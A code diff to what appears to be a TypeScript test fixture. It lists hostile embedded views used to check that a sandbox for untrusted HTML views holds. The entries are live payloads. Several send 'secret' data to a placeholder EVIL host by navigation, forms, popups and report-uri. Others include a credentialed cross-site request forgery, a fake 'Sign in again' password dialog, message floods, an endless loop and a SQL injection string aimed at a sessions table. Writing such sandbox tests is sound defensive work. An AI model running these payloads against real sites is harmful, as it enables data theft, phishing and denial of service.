@@ -2,13 +2,13 @@
 export type HostileView = {
   name: string
   html: string
-  /** Whether it takes its own page away, so that nothing else can be tried beside it. */
-  leaves: boolean
+  /** Whether it takes its own page away, or all that it may send, so that nothing else can be tried beside it. */
+  alone: boolean
 }
 
 const script = (name: string, code: string): HostileView => markup(name, `<script>{ ${code} }</script>`)
-const markup = (name: string, html: string): HostileView => ({ name, html: `<p>Hello</p>${html}`, leaves: false })
-const leaving = (views: HostileView[]): HostileView[] => views.map((view) => ({ ...view, leaves: true }))
+const markup = (name: string, html: string): HostileView => ({ name, html: `<p>Hello</p>${html}`, alone: false })
+const eachAlone = (views: HostileView[]): HostileView[] => views.map((view) => ({ ...view, alone: true }))
 
 /** Each tries to carry something out, by one way. */
 export const waysOut: HostileView[] = [
@@ -107,7 +107,19 @@ export const waysOut: HostileView[] = [
     "a report of what the policy refused",
     `new ReportingObserver(() => {}).observe(); const m = document.createElement("meta"); m.httpEquiv = "Content-Security-Policy"; m.content = "img-src 'none'; report-uri EVIL/report"; document.head.append(m); new Image().src = "EVIL/reported"`,
   ),
-  ...leaving([
+  script("taking the whole window", `try { top.location = "EVIL/top" } catch {} parent.location = "EVIL/parent"`),
+  markup("a link to the top, clicked", `<a id="up" href="EVIL/toplink" target="_top">x</a><script>up.click()</script>`),
+  markup("a link that downloads", `<a id="down" href="EVIL/download" download>x</a><script>down.click()</script>`),
+  script("a popup", `open("EVIL/popup"); open("EVIL/popup2", "_blank", "noopener")`),
+  markup(
+    "a form to the top",
+    `<form id="upward" action="EVIL/topform" target="_top"><input name="x"></form><script>upward.submit()</script>`,
+  ),
+  markup(
+    "a form in a new window",
+    `<form action="EVIL/newform" target="_blank"><button id="anew" formaction="EVIL/formaction">x</button></form><script>anew.click()</script>`,
+  ),
+  ...eachAlone([
     script("going elsewhere itself", `location.href = "EVIL/navigate?secret"`),
     script("going elsewhere by replace", `location.replace("EVIL/replace")`),
     markup("a meta refresh", `<meta http-equiv="refresh" content="0;url=EVIL/refresh">`),
@@ -115,22 +127,10 @@ export const waysOut: HostileView[] = [
       "a meta refresh written later",
       `document.write('<meta http-equiv="refresh" content="0;url=EVIL/written">')`,
     ),
-    script("taking the whole window", `try { top.location = "EVIL/top" } catch {} parent.location = "EVIL/parent"`),
     markup("a link clicked by a script", `<a id="a" href="EVIL/link" ping="EVIL/ping">x</a><script>a.click()</script>`),
-    markup("a link to the top, clicked", `<a id="a" href="EVIL/toplink" target="_top">x</a><script>a.click()</script>`),
-    markup("a link that downloads", `<a id="a" href="EVIL/download" download>x</a><script>a.click()</script>`),
-    script("a popup", `open("EVIL/popup"); open("EVIL/popup2", "_blank", "noopener")`),
     markup(
       "a form",
       `<form id="f" action="EVIL/form" method="post"><input name="secret" value="x"></form><script>f.submit()</script>`,
-    ),
-    markup(
-      "a form to the top",
-      `<form id="f" action="EVIL/topform" target="_top"><input name="x"></form><script>f.submit()</script>`,
-    ),
-    markup(
-      "a form in a new window",
-      `<form id="f" action="EVIL/newform" target="_blank"><button id="b" formaction="EVIL/formaction">x</button></form><script>b.click()</script>`,
     ),
     markup("a base for what is relative", `<base href="EVIL/base/"><img src="x.png"><script>fetch("y")</script>`),
     script(
@@ -167,36 +167,12 @@ export const waysIn: HostileView[] = [
     `for (const path of ["/do/views/1/agree", "/do/views/1/share", "/do/drafts/1/approve"]) fetch("VIEWER" + path, { method: "POST", mode: "no-cors", credentials: "include", body: "version=1" })`,
   ),
   markup(
-    "the viewer's own deeds by a form",
-    `<form id="f" method="post" action="VIEWER/do/views/1/remove" target="_top"><input name="csrf" value="x"></form><script>f.submit()</script>`,
-  ),
-  markup(
     "a window that looks like the viewer's",
     `<style>html, body { margin: 0 } #d { position: fixed; inset: 0; width: 200vw; height: 500vh; z-index: 2147483647 }</style><dialog id="d"><h2>Small Giant</h2><p>Sign in again</p><input type="password"></dialog><script>d.showModal()</script>`,
   ),
   script(
     "a height without end",
     `setInterval(() => parent.postMessage({}, "*"), 50); view.ready.then(() => { document.body.style.height = "900000px" })`,
-  ),
-  script(
-    "the focus of who types",
-    `setInterval(() => { focus(); const i = document.createElement("input"); document.body.append(i); i.focus(); i.autofocus = true }, 20)`,
-  ),
-  script(
-    "a flood of messages to the window",
-    `for (let i = 0; i < 20000; i += 1) parent.postMessage({ jsonrpc: "2.0", method: "x", id: i }, "*")`,
-  ),
-  script(
-    "a flood of messages through its port",
-    `view.ready.then(() => { for (let i = 0; i < 5000; i += 1) view.keep({ i }).catch(() => {}) })`,
-  ),
-  script(
-    "a flood of proposals",
-    `view.ready.then(() => { for (let i = 0; i < 60; i += 1) view.act("lose", null, { i }).catch(() => {}) })`,
-  ),
-  script(
-    "a message without measure",
-    `parent.postMessage("x".repeat(30_000_000), "*"); view.ready.then(() => view.keep({ big: "x".repeat(10_000_000) }).catch(() => {}))`,
   ),
   script(
     "a message without bottom",
@@ -210,40 +186,59 @@ export const waysIn: HostileView[] = [
     "a second port",
     `const { port1, port2 } = new MessageChannel(); view.ready.then(() => parent.postMessage({ jsonrpc: "2.0", id: 1, method: "ui/initialize", params: {} }, "*", [port2]))`,
   ),
-  script("a loop that never ends", `setTimeout(() => { for (;;); }, 100)`),
   script(
     "methods that there are not",
     `parent.postMessage({ jsonrpc: "2.0", id: 1, method: "ui/open-link", params: { url: "EVIL/open" } }, "*"); parent.postMessage({ jsonrpc: "2.0", id: 2, method: "ui/message", params: {} }, "*")`,
   ),
+  ...eachAlone([
+    script(
+      "the focus of who types",
+      `const i = document.createElement("input"); i.autofocus = true; document.body.append(i); setInterval(() => { focus(); i.blur(); i.focus() }, 20)`,
+    ),
+    markup(
+      "the viewer's own deeds by a form",
+      `<form id="f" method="post" action="VIEWER/do/views/1/remove" target="_top"><input name="csrf" value="x"></form><script>f.submit()</script>`,
+    ),
+    script(
+      "a flood of messages to the window",
+      `for (let i = 0; i < 20000; i += 1) parent.postMessage({ jsonrpc: "2.0", method: "x", id: i }, "*")`,
+    ),
+    script(
+      "a flood of messages through its port",
+      `view.ready.then(() => { for (let i = 0; i < 5000; i += 1) view.keep({ i }).catch(() => {}) })`,
+    ),
+    script(
+      "a flood of proposals",
+      `view.ready.then(() => { for (let i = 0; i < 60; i += 1) view.act("lose", null, { i }).catch(() => {}) })`,
+    ),
+    script(
+      "a message without measure",
+      `parent.postMessage("x".repeat(30_000_000), "*"); view.ready.then(() => view.keep({ big: "x".repeat(10_000_000) }).catch(() => {}))`,
+    ),
+    script("a loop that never ends", `setTimeout(() => { for (;;); }, 100)`),
+  ]),
 ]
 
-/** What it asks of the viewer by the way that there is, and what it is told. Each writes what it was told into its title. */
-export const askedFor: (HostileView & { told: RegExp })[] = [
-  { ...told("a query that it does not have", `view.rows("secrets")`), told: /no query secrets/ },
-  { ...told("a query of its own", `view.rows("SELECT * FROM users")`), told: /no query/ },
+/** What it asks of the viewer by the way that there is, and what it is told. */
+export const askedFor: { name: string; code: string; told: RegExp }[] = [
+  { name: "a query that it does not have", code: `view.rows("secrets")`, told: /no query secrets/ },
+  { name: "a query of its own", code: `view.rows("SELECT * FROM users")`, told: /no query/ },
   {
-    ...told("another table by an input", `view.rows("all", { least: "0 UNION SELECT secret FROM sessions" })`),
+    name: "another table by an input",
+    code: `view.rows("all", { least: "0 UNION SELECT secret FROM sessions" })`,
     told: /no number/,
   },
   {
-    ...told("another version by an input", `view.rows("all", { version: "7", part: "parts", query: "all" })`),
+    name: "another version by an input",
+    code: `view.rows("all", { version: "7", part: "parts", query: "all" })`,
     told: /^\[/,
   },
-  { ...told("an action that it does not have", `view.act("leads.merge")`), told: /no action/ },
-  { ...told("an action about no row", `view.act("lose")`), told: /needs lead_id/ },
+  { name: "an action that it does not have", code: `view.act("leads.merge")`, told: /no action/ },
+  { name: "an action about no row", code: `view.act("lose")`, told: /needs lead_id/ },
   {
-    ...told(
-      "an action about a row that it made up",
-      `view.rows("all").then(([row]) => { row.lead_id = 2; return view.act("lose", { lead_id: 2 }) })`,
-    ),
+    name: "an action about a row that it made up",
+    code: `view.rows("all").then(([row]) => { row.lead_id = 2; return view.act("lose", { lead_id: 2 }) })`,
     told: /needs lead_id/,
   },
-  { ...told("a state that is too large", `view.keep({ big: "x".repeat(30000) })`), told: /20000/ },
+  { name: "a state that is too large", code: `view.keep({ big: "x".repeat(30000) })`, told: /20000/ },
 ]
-
-function told(name: string, code: string): HostileView {
-  return script(
-    name,
-    `Promise.resolve().then(() => ${code}).then((x) => { document.body.textContent = JSON.stringify(x) }, (e) => { document.body.textContent = e.message })`,
-  )
-}
